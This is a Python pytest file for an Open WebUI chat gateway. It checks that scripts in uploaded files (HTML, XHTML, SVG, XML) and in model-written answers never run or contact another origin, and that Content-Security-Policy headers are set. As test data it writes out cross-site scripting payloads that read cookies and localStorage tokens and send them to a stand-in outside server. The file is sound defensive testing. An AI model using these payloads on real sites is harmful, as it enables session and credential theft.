"""What visitors bring and models write runs nothing in the chat page, and has it call no other address."""

from __future__ import annotations

import re
from base64 import b64encode
from collections.abc import Iterator
from contextlib import contextmanager
from hashlib import sha256

import httpx
import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.gateway.installation import OpenWebUI
from tests.gateway.test_visitor import sign_in
from tests.gateway.upstream import ANSWER, Upstream
from tests.support import chromium

SCRIPT = (
    "document.cookie; localStorage.token; location.hash = 'ran'; fetch('/api/v1/auths/'); new Image().src = '{there}'"
)
BODY = f"<p>Brought along</p><script>{SCRIPT}</script><img src='{{there}}'/>"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{SCRIPT}</script><text y='20'>Brought along</text></svg>"
XML = f"<?xml version='1.0'?><root xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{SCRIPT}</h:script></root>"
BROUGHT = [
    ("page.html", "text/html", f"<!doctype html>{BODY}"),
    ("page.xhtml", "application/xhtml+xml", f"<html xmlns='http://www.w3.org/1999/xhtml'><body>{BODY}</body></html>"),
    ("drawing.svg", "image/svg+xml", SVG),
    ("data.xml", "text/xml", XML),
]


@pytest.fixture
def elsewhere(chat: OpenWebUI) -> Iterator[Upstream]:
    """Another origin, which shall hear nothing."""
    with Upstream(8299) as upstream:
        yield upstream


@pytest.fixture
def visitor(chat: OpenWebUI) -> Iterator[httpx.Client]:
    headers = {"Authorization": f"Bearer {sign_in(chat.gateway)['token']}"}
    with httpx.Client(base_url=chat.gateway.url("chat"), headers=headers, timeout=60) as client:
        yield client


@contextmanager
def saying(chat: OpenWebUI, answer: str) -> Iterator[None]:
    """The model says this, at once."""
    before, chat.vllm.answer, chat.vllm.pause = chat.vllm.pause, answer, 0
    try:
        yield
    finally:
        chat.vllm.answer, chat.vllm.pause = ANSWER, before


def inline_scripts(html: str) -> list[str]:
    return re.findall(r"<script>(.*?)<\\?/script>", html, re.DOTALL)


def digest(script: str) -> str:
    return b64encode(sha256(script.encode()).digest()).decode()


def test_the_policy_knows_the_scripts_of_this_open_webui(chat: OpenWebUI) -> None:
    """For another Open WebUI: these are the values of templates/nginx/chat.conf.j2."""
    page = httpx.get(chat.gateway.url("chat"))
    (frontend,) = chat.program.parent.parent.glob("lib/python*/site-packages/open_webui/frontend")
    chunks = frontend.glob("_app/immutable/chunks/*.js")
    (chunk,) = (path for path in chunks if "__PYODIDE_INDEX_URL__=" in path.read_text())
    served = httpx.get(chat.gateway.url("chat", f"/_app/immutable/chunks/{chunk.name}")).text
    runtime = re.findall(r"String\.raw`(.*?)`;", served, re.DOTALL)
    address = re.findall(r"(window\.__PYODIDE_INDEX_URL__=)\$\{`(.*?)`\}<", served)
    assert len(runtime) == len(address) == 1, f"{chunk.name} is not the file that chat.conf.j2 names, or changed"
    needed = {digest(script) for script in [*inline_scripts(page.text), *runtime, "".join(address[0])]}
    policy = page.headers["Content-Security-Policy"]
    assert set(re.findall(r"'sha256-([^']+)'", policy)) == needed
    assert not {"'unsafe-eval'", "*", "http:", "https:"} & set(policy.replace(";", " ").split())
    assert "'unsafe-inline'" not in policy.partition("script-src ")[2].partition(";")[0]


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/api/config",
        "/api/v1/files/x/content",
        "/api/v1/audio/config",
        "/api/v1/users/x/profile/image",
        "/api/v1/terminals/sandbox/files/view",
        "/api/v1/auths/",
        "/cache/x",
        "/static/favicon.png",
        "/openai/models",
        "/aisandbox/progress.html",
        "/aisandbox/connect.html",
        "/aisandbox/status.json",
        "/aisandbox/connect.json",
        "/aisandbox/chat",
    ],
)
def test_every_answer_says_what_may_run(chat: OpenWebUI, path: str) -> None:
    headers = httpx.get(chat.gateway.url("chat", path)).headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] in ("SAMEORIGIN", "DENY")
    assert headers["Referrer-Policy"] == "same-origin"
    policy = headers["Content-Security-Policy"]
    assert "frame-ancestors" in policy
    assert policy.startswith("sandbox; ") == path.startswith(
        ("/api/", "/cache/", "/openai/", "/aisandbox/s", "/aisandbox/chat", "/aisandbox/connect.json")
    )
    assert len(headers.get_list("Content-Security-Policy")) == len(headers.get_list("Content-Type")) == 1


@pytest.mark.parametrize(("name", "kind", "content"), BROUGHT, ids=[name for name, _, _ in BROUGHT])
def test_what_is_uploaded_runs_nothing(
    browser: Browser, chat: OpenWebUI, visitor: httpx.Client, elsewhere: Upstream, name: str, kind: str, content: str
) -> None:
    """Opened as the page that it claims to be, by a browser that neither saves it instead nor shows its text."""
    body = content.format(there=f"http://127.0.0.1:{elsewhere.port}/beacon").encode()
    panel = "/api/v1/terminals/sandbox/files"
    file = {"file": (name, body, kind)}
    uploaded = visitor.post("/api/v1/files/?process=false", files=file).json()["id"]
    stored = visitor.post(f"{panel}/upload", files=file).json()["path"]
    cookie = {"name": "token", "value": visitor.headers["Authorization"].split()[1], "url": chat.gateway.url("chat")}
    asked: list[str] = []

    def show(route: Route) -> None:
        asked.append(route.request.url)
        answer = route.fetch()
        headers = {name: value for name, value in answer.headers.items() if name != "content-disposition"}
        route.fulfill(response=answer, headers={**headers, "content-type": kind})

    paths = [f"/api/v1/files/{uploaded}/content", f"{panel}/view?path={stored}", f"{panel}/serve{stored}"]
    with chromium.new_page(browser, refused=[]) as page:
        page.context.add_cookies([cookie])  # type: ignore[list-item]
        page.route("**/api/**", show)
        for path in paths:
            answer = page.goto(chat.gateway.url("chat", path))
            assert answer and answer.status == 200, path
            assert "#ran" not in page.url
    assert asked == [chat.gateway.url("chat", path) for path in paths]
    assert elsewhere.seen == []


def test_an_uploaded_script_is_no_script(visitor: httpx.Client) -> None:
    """The page runs what comes from its own address."""
    for kind in ("text/javascript", "application/javascript", "application/x-ecmascript", "text/jscript"):
        uploaded = visitor.post("/api/v1/files/?process=false", files={"file": ("a.mjs", b"alert(1)", kind)})
        answer = visitor.get(f"/api/v1/files/{uploaded.json()['id']}/content")
        assert answer.headers["Content-Type"] == "text/plain", kind
        assert answer.content == b"alert(1)"


def test_an_uploaded_pdf_is_shown(visitor: httpx.Client) -> None:
    uploaded = visitor.post("/api/v1/files/?process=false", files={"file": ("a.pdf", b"%PDF-1.4", "text/html")})
    answer = visitor.get(f"/api/v1/files/{uploaded.json()['id']}/content")
    assert answer.headers["Content-Type"] == "application/pdf"
    assert "Content-Security-Policy" not in answer.headers


WRITTEN = """Look:

![a picture]({there}/markdown.png)

<img src="x" onerror="document.title = 'ran'; fetch('{there}/onerror')">
<video src="{there}/video" autoplay></video> [click](javascript:document.title='ran')

```html
<!doctype html><html><head><link rel="stylesheet" href="{there}/style.css">
</head><body><h1>An artifact</h1><iframe srcdoc="<meta http-equiv='refresh' content='0;url={there}/refresh'>"></iframe>
<script>document.querySelector("h1").textContent = "ran"; fetch("{there}/fetch")</script>
<script>new Image().src = "{there}/image?" + localStorage.token</script>
<script>parent.document.title = "ran"; fetch("/api/v1/auths/"); location = "{there}/location"</script>
<script src="{there}/script.js"></script><script src="{own}"></script>
<img src="{there}/img" onerror="parent.document.title = 'ran'"><iframe src="{there}/frame"></iframe>
<style>body {{ background: url({there}/background) }}</style>
</body></html>
```
"""


@pytest.mark.parametrize("same_origin", [False, True], ids=["as-it-comes", "with-the-origin"])
def test_what_a_model_writes_runs_nothing(
    browser: Browser, chat: OpenWebUI, visitor: httpx.Client, elsewhere: Upstream, same_origin: bool
) -> None:
    """Also where somebody has let previews have the page's origin."""
    uploaded = visitor.post(
        "/api/v1/files/?process=false", files={"file": ("own.js", b"parent.document.title = 'ran'", "text/javascript")}
    )
    there, own = f"http://127.0.0.1:{elsewhere.port}", f"/api/v1/files/{uploaded.json()['id']}/content"
    setting = {"ui": {"iframeSandboxAllowSameOrigin": same_origin}}
    assert visitor.post("/api/v1/users/user/settings/update", json=setting).status_code == 200
    refused: list[str] = []
    try:
        with saying(chat, WRITTEN.format(there=there, own=own)), chromium.new_page(browser, refused) as page:
            chromium.open_chat(page, chat.gateway.url("chat"))
            chromium.send(page, "Make me a page")
            preview = page.frame_locator("iframe[srcdoc*=artifact]")
            expect(preview.get_by_role("heading", name="An artifact")).to_be_visible()
            page.screenshot(path=chat.gateway.folder / "artifact.png")
            frame = page.locator("iframe[srcdoc*=artifact]").element_handle().content_frame()
            assert frame
            frame.wait_for_load_state()
            assert "ran" not in page.title()
    finally:
        visitor.post("/api/v1/users/user/settings/update", json={"ui": {"iframeSandboxAllowSameOrigin": None}})
    assert elsewhere.seen == []
    told = "\n".join(refused)
    for tried in ("/markdown.png", "/style.css", "/script.js", "/img", "/background", "inline script", "Framing"):
        assert tried in told


def test_code_blocks_run_in_the_browser(page: Page, chat: OpenWebUI) -> None:
    """In a frame without an origin. Pyodide comes from this server, so it works without a network."""
    with saying(chat, "Run this:\n\n```python\nimport sys\nprint(6 * 7, 'in', sys.platform)\n```\n"):
        chromium.open_chat(page, chat.gateway.url("chat"))
        chromium.send(page, "Six times seven")
        expect(page.get_by_role("button", name="Regenerate")).to_be_visible()
        page.get_by_role("button", name="Run", exact=True).click()
        expect(page.get_by_text("42 in emscripten")).to_be_visible()


def test_diagrams_are_drawn(page: Page, chat: OpenWebUI) -> None:
    with saying(chat, "A plan:\n\n```mermaid\ngraph TD\n  Start --> Finish\n```\n"):
        chromium.open_chat(page, chat.gateway.url("chat"))
        chromium.send(page, "Draw a plan")
        expect(page.locator("svg").get_by_text("Finish")).to_be_visible()
